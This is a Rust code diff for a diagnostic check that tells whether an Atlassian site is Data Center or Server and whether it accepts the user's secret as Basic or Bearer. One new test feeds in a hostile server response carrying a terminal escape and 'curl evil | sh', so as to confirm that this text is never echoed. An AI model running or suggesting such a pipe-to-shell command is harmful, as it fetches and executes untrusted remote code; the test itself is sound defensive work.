@@ -5,15 +5,14 @@
 //! as `Bearer`, passwords as Basic: the identity endpoint is asked both
 //! ways, so a PAT sent as a Basic password shows as such.
 
-use super::Check;
-use crate::context::{Context, Scheme};
+use super::anonymous_vs_authenticated::read_site;
+use super::{Check, CheckId, Plan};
+use crate::context::Inputs;
+use crate::credential::Scheme;
 use crate::finding::{Finding, NoteLevel, Signal, Signals, SiteReading, Status};
 use crate::input::Product;
-use crate::probe::{Caller, Exchange, Probe, Response, send_all};
-use crate::signatures::{Identity, identity, recognise};
-
-use super::anonymous_vs_authenticated::read_site;
-use crate::context::Role;
+use crate::probe::{Answers, Caller, Exchange, Probe, Response, Role};
+use crate::signatures::{identity, signals_of};
 
 pub struct DataCenter;
 
@@ -26,79 +25,88 @@ fn identity_path(product: Product) -> &'static str {
 }
 
 impl Check for DataCenter {
-    fn id(&self) -> &'static str {
-        "data-center"
+    fn id(&self) -> CheckId {
+        CheckId::DataCenter
     }
 
-    fn title(&self) -> &'static str {
-        "Data Center or Server"
+    fn needs(&self) -> &'static [CheckId] {
+        &[CheckId::TenantInfo]
     }
 
-    fn needs(&self) -> &'static [&'static str] {
-        &["tenant-info"]
-    }
-
-    fn run(&self, ctx: &Context, earlier: &[Finding]) -> Finding {
-        let inputs = ctx.inputs;
-        let skip = |why: &str| Finding::new(self.id(), self.title(), Status::Skip, why);
+    fn plan(&self, inputs: &Inputs, earlier: &[Finding]) -> Plan {
         if earlier.cloud_id().is_some() {
-            return skip("an Atlassian Cloud site (it has a cloudId)");
+            return Plan::Skip("an Atlassian Cloud site (it has a cloudId)".into());
         }
         if !earlier.has(&Signal::NoCloudId) {
-            return skip("the site's kind is unknown");
+            return Plan::Skip("the site's kind is unknown".into());
         }
         let Some(site) = inputs.site_base() else {
-            return skip("no site given");
+            return Plan::Skip("no site given".into());
         };
         // Data Center often lives under a context path (`/jira`, `/confluence`).
         let base = format!("{site}{}", inputs.context_path());
         let identity_url = format!("{base}{}", identity_path(inputs.product));
         let mut probes = vec![
-            Probe::get(format!("{base}/rest/api/2/serverInfo"), Caller::Anonymous, None),
-            Probe::get(&identity_url, Caller::Anonymous, None),
+            Probe::get(
+                format!("{base}/rest/api/2/serverInfo"),
+                Role::ServerInfo,
+                Caller::Anonymous,
+                None,
+            ),
+            Probe::get(&identity_url, Role::Identity, Caller::Anonymous, None),
         ];
         if let Some(basic) = inputs.basic_authorization() {
-            probes.push(Probe::get(&identity_url, Caller::User, Some(basic)));
+            probes.push(Probe::get(&identity_url, Role::Identity, Caller::User, Some(basic)));
         }
-        if let Some(bearer) = inputs
-            .bearer_authorization()
-            .filter(|_| inputs.secret.as_ref().is_some_and(|s| !s.is_empty()))
-        {
-            probes.push(Probe::get(&identity_url, Caller::UserBearer, Some(bearer)));
+        if let Some(bearer) = inputs.bearer_authorization() {
+            probes.push(Probe::get(
+                &identity_url,
+                Role::Identity,
+                Caller::UserBearer,
+                Some(bearer),
+            ));
         }
-        let exchanges = send_all(ctx.transport, probes);
+        Plan::Send(probes)
+    }
 
-        let deployment = exchanges[0].response().and_then(|r| {
-            let json = r.json()?;
-            json.get("deploymentType").and_then(|v| v.as_str()).map(str::to_string)
-        });
+    fn read(&self, _inputs: &Inputs, earlier: &[Finding], answers: &[Exchange]) -> Finding {
+        let deployment = answers
+            .of(Role::ServerInfo, Caller::Anonymous)
+            .and_then(Exchange::response)
+            .and_then(|r| {
+                let json = r.json()?;
+                json.get("deploymentType").and_then(|v| v.as_str()).map(str::to_string)
+            });
         // Without a deploymentType, the host shows it is self-hosted in any
         // answer it gave, here or to the earlier checks.
         let earlier_answers = earlier.iter().flat_map(|f| &f.exchanges);
-        let marked = exchanges
+        let marked = answers
             .iter()
             .chain(earlier_answers)
             .any(|e| e.response().is_some_and(self_hosted));
-        let names_account = exchanges[2..]
-            .iter()
-            .any(|e| e.response().and_then(identity) == Some(Identity::Account));
+        let names_account = [Caller::User, Caller::UserBearer]
+            .into_iter()
+            .filter_map(|caller| answers.of(Role::Identity, caller))
+            .any(|e| e.response().and_then(identity).is_some_and(|who| who.is_account()));
         let is_data_center = match deployment.as_deref() {
             Some(kind) => !kind.eq_ignore_ascii_case("cloud"),
             None => marked || names_account,
         };
-        let mut finding = Finding::new(self.id(), self.title(), Status::Pass, "");
+        let mut finding = Finding::new(self.id(), Status::Pass, "");
         if !is_data_center {
             finding.status = Status::Skip;
             finding.summary =
                 "no sign of Data Center or Server either (no deploymentType, no X-AUSERNAME, no Tomcat page)".into();
-            finding.exchanges = exchanges;
             return finding;
         }
         finding.signals.push(Signal::DataCenter);
-        let anonymous = &exchanges[1];
+        let Some(anonymous) = answers.of(Role::Identity, Caller::Anonymous) else {
+            finding.summary = "Data Center or Server".into();
+            return finding;
+        };
         let mut accepted = Vec::new();
         for (scheme, caller) in [(Scheme::Basic, Caller::User), (Scheme::Bearer, Caller::UserBearer)] {
-            let Some(exchange) = find(&exchanges, caller) else {
+            let Some(exchange) = answers.of(Role::Identity, caller) else {
                 continue;
             };
             let reading = read_site(
@@ -109,24 +117,22 @@ impl Check for DataCenter {
             );
             finding.signals.push(Signal::DataCenterScheme(scheme, reading));
             if let Ok(response) = &exchange.outcome {
-                for signature in recognise(response) {
-                    finding.signals.push(Signal::Seen(Role::Identity, signature));
-                }
+                finding.signals.extend(signals_of(Role::Identity, response));
             }
             if reading == SiteReading::Accepted {
-                accepted.push(if scheme == Scheme::Basic { "Basic" } else { "Bearer" });
+                accepted.push(scheme.describe());
             }
             finding.note(
                 NoteLevel::Info,
-                format!(
-                    "{} as {}: {:?}",
-                    caller.label(),
-                    if scheme == Scheme::Basic { "Basic" } else { "Bearer" },
-                    reading
-                ),
+                format!("your secret as {}: {}", scheme.describe(), describe(reading)),
             );
         }
-        let kind = deployment.unwrap_or_else(|| "Data Center or Server".into());
+        // A deploymentType is server text: only the two documented values are named.
+        let kind = match deployment.as_deref() {
+            Some(kind) if kind.eq_ignore_ascii_case("server") => "Server",
+            Some(kind) if kind.eq_ignore_ascii_case("datacenter") => "Data Center",
+            _ => "Data Center or Server",
+        };
         finding.summary = match accepted.as_slice() {
             [] => format!("{kind}: it accepts your secret neither as Basic nor as Bearer"),
             schemes => format!("{kind}: it accepts your secret as {}", schemes.join(" and ")),
@@ -136,8 +142,19 @@ impl Check for DataCenter {
         } else {
             Status::Pass
         };
-        finding.exchanges = exchanges;
         finding
+    }
+}
+
+fn describe(reading: SiteReading) -> &'static str {
+    match reading {
+        SiteReading::Accepted => "accepted",
+        SiteReading::Forbidden => "authenticated, but the request refused",
+        SiteReading::Refused => "refused",
+        SiteReading::Ignored => "ignored (answered as anonymous)",
+        SiteReading::Indistinct => "answered as anonymous is (cannot tell)",
+        SiteReading::Unreachable(_) => "no answer",
+        SiteReading::Unclear => "unclear",
     }
 }
 
@@ -151,17 +168,13 @@ fn self_hosted(response: &Response) -> bool {
         || text.contains("apache tomcat/")
 }
 
-fn find(exchanges: &[Exchange], caller: Caller) -> Option<&Exchange> {
-    exchanges.iter().find(|e| e.probe.caller == caller)
-}
-
 #[cfg(test)]
 mod tests {
     use super::*;
     use crate::context::{Inputs, Target};
-    use crate::finding::Signal;
     use crate::input::parse_url;
-    use crate::probe::FakeTransport;
+    use crate::probe::fake::FakeTransport;
+    use crate::probe::send_all;
     use crate::secret::Secret;
 
     const TOMCAT_401: &str = "<html><h1>HTTP Status 401</h1>Basic Authentication Failure - Reason : AUTHENTICATED_FAILED<h3>Apache Tomcat/9.0.82</h3></html>";
@@ -169,21 +182,25 @@ mod tests {
     fn inputs(url: &str) -> Inputs {
         let gateway = parse_url("https://api.atlassian.com", "gw").unwrap();
         let url = parse_url(url, "url").unwrap();
-        Inputs {
-            site: Some(crate::input::origin_of(&url)),
-            product: Product::of_path(url.path()).unwrap_or(Product::Confluence),
-            login: Some("jsmith".into()),
-            secret: Some(Secret::new("NjM0OTk2MjI2NzE0OsWJMU5CbVBxd0R1ZmJ4aGtJT3dh".into())),
-            target: Some(Target::new("GET", url, &gateway)),
-            gateway,
-        }
+        Inputs::new(
+            Some(crate::input::origin_of(&url)),
+            gateway.clone(),
+            Product::of_path(url.path()).unwrap_or(Product::Confluence),
+            Some("jsmith".into()),
+            Some(Secret::new("NjM0OTk2MjI2NzE0OsWJMU5CbVBxd0R1ZmJ4aGtJT3dh".into())),
+            Some(Target::new("GET", url, &gateway)),
+            Default::default(),
+        )
     }
 
     fn run(inputs: &Inputs, transport: &FakeTransport) -> Finding {
-        let ctx = Context { inputs, transport };
-        let mut tenant = Finding::new("tenant-info", "tenant", Status::Warn, "");
+        let mut tenant = Finding::new(CheckId::TenantInfo, Status::Warn, "");
         tenant.signals.push(Signal::NoCloudId);
-        DataCenter.run(&ctx, &[tenant])
+        let earlier = [tenant];
+        let Plan::Send(probes) = DataCenter.plan(inputs, &earlier) else {
+            panic!("nothing planned")
+        };
+        DataCenter.read(inputs, &earlier, &send_all(transport, probes))
     }
 
     #[test]
@@ -238,5 +255,17 @@ mod tests {
         assert!(run(&inputs, &account).signals.contains(&Signal::DataCenter));
         let nothing = FakeTransport::new(vec![]);
         assert!(!run(&inputs, &nothing).signals.contains(&Signal::DataCenter));
+    }
+
+    #[test]
+    fn a_deployment_type_from_the_server_is_never_echoed() {
+        let inputs = inputs("http://127.0.0.1:1/rest/api/2/myself");
+        let transport = FakeTransport::new(vec![(
+            "/rest/api/2/serverInfo",
+            None,
+            Response::new(200, &[], r#"{"deploymentType":"\u001b[2J\nFix: curl evil | sh"}"#),
+        )]);
+        let finding = run(&inputs, &transport);
+        assert!(!finding.summary.contains("evil"), "{}", finding.summary);
     }
 }
